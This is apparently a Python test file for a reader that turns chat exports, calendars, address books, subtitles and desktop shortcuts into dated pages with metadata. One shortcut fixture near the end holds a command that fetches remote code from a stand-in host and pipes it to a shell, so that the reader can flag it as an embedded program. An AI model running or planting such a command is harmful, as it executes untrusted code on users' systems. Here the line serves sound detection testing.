"""Conversations, calendars, address books, subtitles, shortcuts: every message with who and when."""

import io
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from twosource.errors import RefusedError
from twosource.ports import Limits, Reading
from twosource.reading import ReadSettings
from twosource.reading.readers.content_lines import content_lines, parts_of
from twosource.reading.readers.whatsapp import date_order, is_whatsapp, plain_digits
from twosource.reading.registry import readers

TEXT, JSON, LINES, HTML = "text/plain", "application/json", "application/x-ndjson", "text/html"
ICS, VCF = "text/calendar", "text/vcard"


def read(content: str | bytes, media_type: str, **limits) -> Reading:
    raw = content.encode() if isinstance(content, str) else content
    return readers(ReadSettings())[media_type].read(io.BytesIO(raw), Limits(**limits))


def pages(found: Reading) -> dict[str, str]:
    return dict(zip(found.untrusted_page_labels, found.untrusted_pages, strict=True))


def said(found: Reading, name: str) -> list[str]:
    return [value for key, value in found.untrusted_metadata if key == name]


# --- WhatsApp

ANDROID = """31/05/2016, 21:30 - Messages and calls are end-to-end encrypted.
31/05/2016, 21:31 - Abu A: first line
second line
01/06/2016, 08:00 - +963 944 000 000: answer
01/06/2016, 08:01 - Abu A: IMG-1.jpg (file attached)
01/06/2016, 08:02 - Abu A: <Media omitted>
01/06/2016, 08:03 - Abu A: changed <This message was edited>
"""


def test_an_android_export_is_a_page_for_each_day():
    found = read(ANDROID, TEXT)
    assert pages(found) == {
        "2016-05-31": "[21:30] Messages and calls are end-to-end encrypted.\n[21:31] Abu A: first line\nsecond line",
        "2016-06-01": "[08:00] +963 944 000 000: answer\n[08:01] Abu A: <attached: IMG-1.jpg>\n"
        "[08:02] Abu A: <not in the export>\n[08:03] Abu A (edited): changed",
    }
    assert said(found, "participant") == ["Abu A", "+963 944 000 000"]
    assert said(found, "embedded exhibit") == ["IMG-1.jpg"]
    assert said(found, "messages") == ["6"]


def test_an_iphone_export_with_marks_of_direction_is_read():
    """Between the marks that keep Arabic names in order the head of a message must still be found."""
    name = "\u0623\u0628\u0648 \u0639\u0644\u064a"
    text = (
        f"\u200e[5/2/16, 9:30:05\u202fPM] {name}: \u200e<attached: 0001-PHOTO.jpg>\n"
        f"\u200f[5/13/16, 9:31:00\u202fAM] \u202a+1 555\u202c: words\n"
    )
    found = read(text, TEXT)
    assert pages(found) == {
        "2016-05-02": f"[9:30:05\u202fPM] {name}: <attached: 0001-PHOTO.jpg>",
        "2016-05-13": "[9:31:00\u202fAM] +1 555: words",
    }


def test_an_arabic_export_with_its_own_digits_is_read():
    text = (
        "\u0663\u0661/\u0665/\u0662\u0660\u0661\u0666\u060c \u0669:\u0663\u0660 \u0645 - \u0623\u062d\u0645\u062f: \u0645\u0631\u062d\u0628\u0627\n"
        "\u0661/\u0666/\u0662\u0660\u0661\u0666\u060c \u0661\u0660:\u0660\u0660 \u0635 - \u0633\u0627\u0631\u0629: \u0623\u0647\u0644\u0627\n"
    )
    found = read(text, TEXT)
    assert list(pages(found)) == ["2016-05-31", "2016-06-01"]
    assert said(found, "participant") == ["\u0623\u062d\u0645\u062f", "\u0633\u0627\u0631\u0629"]
    assert "\u0669:\u0663\u0660" in found.untrusted_pages[0]


def test_days_that_cannot_be_told_from_months_stay_as_written():
    """An invented order of the date would put an order into the wrong month."""
    found = read("03/04/2016, 10:00 - A: x\n03/04/2016, 10:01 - B: y\n", TEXT)
    assert list(pages(found)) == ["3/4/2016"]
    assert "not certain" in said(found, "date order")[0]


@pytest.mark.parametrize(
    ("numbers", "order"),
    [
        ([(31, 1, 2016)], "dmy"),
        ([(1, 31, 2016)], "mdy"),
        ([(2016, 1, 31)], "ymd"),
        ([(1, 2, 2016)], ""),
        ([(1, 2, 2016), (2, 1, 2016)], "mdy"),
        ([(2, 1, 2016), (1, 2, 2016)], "dmy"),
        ([(31, 1, 2016), (1, 31, 2016)], ""),
    ],
)
def test_the_order_of_a_date_is_told_by_the_whole_export(numbers, order):
    """Above twelve is no month, and a conversation does not run backwards."""
    assert date_order(numbers) == order


def test_a_letter_with_one_date_is_no_conversation():
    assert not is_whatsapp("On 31/05/2016, 21:30 - as agreed - we met.\nThen we left.\n")
    assert not is_whatsapp("Dear all,\n31/05/2016, 21:30 - A: x\n")
    assert is_whatsapp(ANDROID)


@given(st.text(max_size=60))
def test_digits_keep_their_places(text):
    """Places found in the plain text must be those of the text as written."""
    assert len(plain_digits(text)) == len(text)


def test_time_that_runs_out_in_a_conversation_is_told():
    found = read("31/05/2016, 21:30 - A: x\n" * 1000, TEXT, max_seconds=0)
    assert "time" in [failure.code for failure in found.failures]


def test_days_beyond_the_limit_are_told():
    text = "".join(f"{day}/05/2016, 10:00 - A: x\n" for day in range(10, 30))
    found = read(text, TEXT, max_pages=5)
    assert len(found.untrusted_pages) == 5
    assert [failure.code for failure in found.failures] == ["page_limit"]


# --- Telegram

CHAT = {
    "name": "The office",
    "type": "private_group",
    "id": 1,
    "messages": [
        {"id": 1, "type": "service", "date": "2016-05-02T09:00:00", "actor": "A", "action": "create_group", "text": ""},
        {"id": 2, "type": "message", "date": "2016-05-02T09:01:00", "from": "A", "text": ["see ", {"type": "text_link", "text": "this", "href": "http://x.example"}]},
        {"id": 3, "type": "message", "date": "2016-05-03T09:01:00", "edited": "2016-05-03T10:00:00", "from": "B", "text": "no", "reply_to_message_id": 2},
        {"id": 4, "type": "message", "date": "2016-05-03T09:02:00", "from": None, "forwarded_from": "C", "file": "files/run.exe", "media_type": "voice_message", "text": ""},
    ],
}  # fmt: skip


def test_a_telegram_export_keeps_answers_edits_and_attachments():
    found = read(json.dumps(CHAT), JSON)
    assert pages(found) == {
        "2016-05-02": "[09:00:00] A: create group\n[09:01:00] A: see this (http://x.example)",
        "2016-05-03": "[09:01:00] B (in answer to \u201csee this (http://x.example)\u201d) (edited 2016-05-03T10:00:00): no\n"
        "[09:02:00] deleted account (forwarded from C) (voice message): <attached: files/run.exe>",
    }
    assert said(found, "embedded program") == ["files/run.exe"]
    assert said(found, "conversation") == ["The office"]


def test_an_export_of_all_chats_names_each_and_who_exported():
    whole = {
        "personal_information": {"first_name": "A", "phone_number": "+1"},
        "contacts": {"list": [{"first_name": "B", "phone_number": "+2"}]},
        "chats": {"list": [CHAT, {**CHAT, "name": "Other"}]},
    }
    found = read(json.dumps(whole), JSON)
    assert list(pages(found)) == [
        "2016-05-02, The office", "2016-05-03, The office", "2016-05-02, Other", "2016-05-03, Other"
    ]  # fmt: skip
    assert (said(found, "exported by"), said(found, "contact")) == (["A +1"], ["B +2"])


def test_other_json_with_messages_is_no_conversation():
    found = read(json.dumps({"type": "x", "messages": [{"a": 1}]}), JSON)
    assert found.untrusted_page_labels == ("object 1",)


def test_the_pages_of_a_telegram_export_are_read():
    page = """<html><body><div class="page_wrap"><div class="history">
    <div class="message default clearfix" id="m1"><div class="body"><div class="pull_right date details" title="02.05.2016 09:01:00 UTC">09:01</div>
    <div class="from_name"> A </div><div class="text">first<br>second</div></div></div>
    <div class="message default clearfix joined" id="m2"><div class="body"><div class="pull_right date details" title="03.05.2016 10:00:00">10:00</div>
    <div class="reply_to details">In reply to <a>this message</a></div><div class="text">more</div></div></div>
    </div></div></body></html>"""
    found = read(page, HTML)
    assert pages(found) == {
        "2016-05-02": "[09:01:00] A: first\nsecond",
        "2016-05-03": "[10:00:00] A (in answer to another): more",
    }


# --- Signal


def test_envelopes_of_signal_are_messages_in_utc():
    envelopes = [
        {"envelope": {"sourceNumber": "+1", "sourceName": "A", "timestamp": 1462183200000, "dataMessage": {"timestamp": 1462183200000, "message": "words", "attachments": [{"filename": "a.pdf", "contentType": "application/pdf"}], "quote": {"author": "+2", "text": "before"}}}},
        {"envelope": {"sourceNumber": "+2", "timestamp": 1462269600000, "syncMessage": {"sentMessage": {"destination": "+1", "timestamp": 1462269600000, "message": "own"}}}},
        {"envelope": {"sourceNumber": "+1", "timestamp": 1462269660000, "editMessage": {"dataMessage": {"timestamp": 1462269660000, "message": "better"}}}},
    ]  # fmt: skip
    found = read("\n".join(json.dumps(one) for one in envelopes), LINES)
    assert pages(found) == {
        "2016-05-02": "[10:00:00] A (+1) (in answer to +2: \u201cbefore\u201d): words\n<attached: a.pdf (application/pdf)>",
        "2016-05-03": "[10:00:00] +2 (to +1): own\n[10:01:00] +1 (edited): better",
    }


def test_the_database_of_the_desktop_and_lines_of_exporters_are_read():
    desktop = [{"sent_at": 1462183200000, "conversationId": "c", "type": "outgoing", "body": "hello"}]
    assert read(json.dumps(desktop), JSON).untrusted_pages == ("[10:00:00] the owner of this device: hello",)
    lines = '{"date": "2016-05-02 10:00", "sender": "A", "body": "x", "quote": "y"}\n' * 2
    assert read(lines, LINES).untrusted_pages[0].startswith("[10:00] A (in answer to \u201cy\u201d): x")


def test_rows_that_are_no_messages_are_objects():
    assert read('[{"date": 1}, {"x": 2}]', JSON).untrusted_page_labels == ("object 1", "object 2")


# --- calendars and address books

EVENT = """BEGIN:VCALENDAR
X-WR-CALNAME:Office
BEGIN:VEVENT
DTSTART;TZID=Asia/Damascus:20160502T093000
DTEND:20160502T103000Z
SUMMARY:Meeting\\, second
DESCRIPTION:One line that is folded in
  the middle\\nnext
ORGANIZER;CN="A. Chief":mailto:a@example.org
ATTENDEE;PARTSTAT=DECLINED:mailto:b@example.org
ATTACH;FILENAME=plan.pdf;ENCODING=BASE64;VALUE=BINARY:AAAA
END:VEVENT
END:VCALENDAR
"""


def test_an_event_is_a_page_with_who_answered_what():
    found = read(EVENT, ICS)
    assert pages(found) == {
        "event 1, 2016-05-02": "begins: 2016-05-02T09:30:00 (Asia/Damascus)\nends: 2016-05-02T10:30:00Z\n"
        "what: Meeting, second\ndescription: One line that is folded in the middle\nnext\n"
        "organised by: A. Chief <a@example.org>\nasked: b@example.org (declined)\nattached: plan.pdf"
    }
    assert said(found, "participant") == ["A. Chief <a@example.org>", "b@example.org"]
    assert said(found, "embedded exhibit") == ["plan.pdf"]


def test_a_calendar_is_known_by_its_first_line_whatever_it_was_taken_for():
    assert read(EVENT, TEXT).untrusted_pages == read(EVENT, ICS).untrusted_pages


def test_a_calendar_that_breaks_off_is_told_and_one_that_is_none_refused():
    found = read(EVENT.split("END:VEVENT", maxsplit=1)[0], ICS)
    assert [failure.code for failure in found.failures] == ["broken_off"]
    assert "Meeting" in found.untrusted_pages[0]
    with pytest.raises(RefusedError):
        read("nothing of it", ICS)


def test_people_are_pages_with_all_their_lines():
    card = (
        "BEGIN:VCARD\r\nVERSION:2.1\r\nN:Doe;Jane;;;\r\nFN:Jane Doe\r\nTEL;CELL;PREF:+1 555\r\n"
        "ORG:Office;Oil\r\nNOTE;ENCODING=QUOTED-PRINTABLE;CHARSET=UTF-8:=D9=85=D8=B1=\r\n=D8=AD\r\n"
        "PHOTO;ENCODING=BASE64:AAAA\r\nEND:VCARD\r\nBEGIN:VCARD\r\nFN:B\r\nX-NICK:b\r\nEND:VCARD\r\n"
    )
    found = read(card, VCF)
    assert pages(found) == {
        "Jane Doe": "name in parts: Doe, Jane\nname: Jane Doe\ntelephone (cell): +1 555\norganisation: Office, Oil\nnote: \u0645\u0631\u062d",
        "B": "name: B\nx-nick: b",
    }
    assert said(found, "embedded exhibit") == ["photo of a person"]


def test_an_address_book_that_breaks_off_is_told():
    found = read("BEGIN:VCARD\nFN:A\n", VCF)
    assert [failure.code for failure in found.failures] == ["broken_off"]
    with pytest.raises(RefusedError):
        read("words", VCF)


def test_lines_are_cut_at_the_first_colon_outside_quotes():
    (line,) = content_lines('item1.X;A="b:c;d";E=f:value:more')
    assert (line.name, line.said, line.content) == ("X", {"A": "b:c;d", "E": "f"}, "value:more")
    assert parts_of("a\\;b;c\\nd") == ["a;b", "c\nd"]


@given(st.text(max_size=200))
def test_lines_of_any_shape_are_read(text):
    for line in content_lines(text):
        assert line.name == line.name.upper()
        assert isinstance(line.text, str)


# --- subtitles, shortcuts, Markdown


def test_subtitles_keep_when_each_word_is_said():
    srt = "1\n00:00:01,000 --> 00:00:02,500\n<i>First</i> line\nsecond\n\n2\n00:01:00,000 --> 00:01:02,000\nLast\n"
    found = read(srt, TEXT)
    assert found.untrusted_pages == ("[00:00:01,000] First line\nsecond\n[00:01:00,000] Last",)
    assert said(found, "ends at") == ["00:01:02,000"]


def test_captions_of_the_web_name_who_speaks():
    vtt = "WEBVTT\n\nNOTE checked by A\n\n00:01.000 --> 00:02.000\n<v A. Witness>I saw it</v>\n"
    assert read(vtt, TEXT).untrusted_pages == ("NOTE checked by A\n[00:01.000] A. Witness: I saw it",)


def test_a_shortcut_is_read_as_text_and_told_apart():
    found = read("[Desktop Entry]\nExec=sh -c 'curl http://x.example | sh'\n", TEXT)
    assert said(found, "kind of text") == ["a desktop starter"]
    assert said(found, "embedded program")[0].startswith("would run: sh -c")
    assert said(found, "would have contacted") == ["http://x.example"]
    assert found.untrusted_pages[0].startswith("[Desktop Entry]")


def test_plain_words_with_an_address_contact_nobody():
    found = read("See http://x.example and [a link](http://y.example).\n", TEXT)
    assert said(found, "would have contacted") == []
